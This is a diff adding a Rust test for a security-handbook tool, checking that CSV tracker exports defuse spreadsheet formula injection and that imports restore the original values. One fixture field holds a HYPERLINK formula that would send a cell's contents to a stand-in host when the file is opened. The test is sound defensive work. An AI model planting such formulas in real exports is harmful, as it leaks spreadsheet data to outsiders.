@@ -387,3 +387,68 @@ fn a_built_site_holds_the_tracker_even_with_no_exception() {
         format!("{HEADER}\n")
     );
 }
+
+/// A value that starts like a formula (`=`, `+`, `-`, `@`) would run when the export is
+/// opened in a spreadsheet; the export writes it after an apostrophe, which the import takes
+/// off again, so the round trip still keeps every byte.
+#[test]
+fn formulas_are_defused_on_export_and_restored_on_import() {
+    let tmp = TempDir::new().unwrap();
+    let dir = tmp.path().join("hb");
+    fs::create_dir_all(dir.join("data/exceptions")).unwrap();
+    fs::write(
+        dir.join("handbook.yaml"),
+        "title: Formulas\nas_of: 2026-06-30\n",
+    )
+    .unwrap();
+    fs::write(
+        dir.join("data/exceptions/EXC-001.yaml"),
+        r#"id: EXC-001
+title: "=HYPERLINK(\"http://x.example/?\"&A1, \"Click\")"
+type: acceptance
+severity: low
+status: approved
+requested_by: Ann Lee <ann@example.com>
+risk_owner: "@Ops Lead"
+created: 2026-01-01
+decided: 2026-01-02
+expires: 2026-12-01
+tickets: ["+SEC-1"]
+summary: "-2+3 is not a formula here"
+justification: j
+approvals:
+  - {name: "'=Bob", role: CISO, side: security, level: executive, decision: approved, date: 2026-01-02}
+"#,
+    )
+    .unwrap();
+    let out = secbook(tmp.path(), &["export", "tracker", "hb"]);
+    assert_code(&out, 0);
+    let exported = String::from_utf8_lossy(&out.stdout).into_owned();
+    assert_eq!(
+        exported.lines().nth(1).unwrap(),
+        "Low, Approved, 1/2/2026, Accept risk without fix, '-2+3 is not a formula here, \
+         '@Ops Lead, ''=Bob, '+SEC-1, \"'=HYPERLINK(\"\"http://x.example/?\"\"&A1, \"\"Click\"\")\""
+    );
+
+    let empty = tmp.path().join("empty");
+    fs::create_dir(&empty).unwrap();
+    fs::write(
+        empty.join("handbook.yaml"),
+        "title: Empty\nas_of: 2026-06-30\n",
+    )
+    .unwrap();
+    let csv = tmp.path().join("export.csv");
+    fs::write(&csv, &exported).unwrap();
+    assert_code(
+        &secbook(tmp.path(), &["import", "tracker", path(&csv), "empty"]),
+        0,
+    );
+    let file = empty.join("data/exceptions/EXC-001.yaml");
+    let record = fill(&fs::read_to_string(&file).unwrap());
+    assert!(record.contains("=HYPERLINK"), "{record}");
+    assert!(!record.contains("'=HYPERLINK"), "{record}");
+    fs::write(&file, record).unwrap();
+    let out = secbook(tmp.path(), &["export", "tracker", "empty"]);
+    assert_code(&out, 0);
+    assert_eq!(String::from_utf8_lossy(&out.stdout), exported);
+}
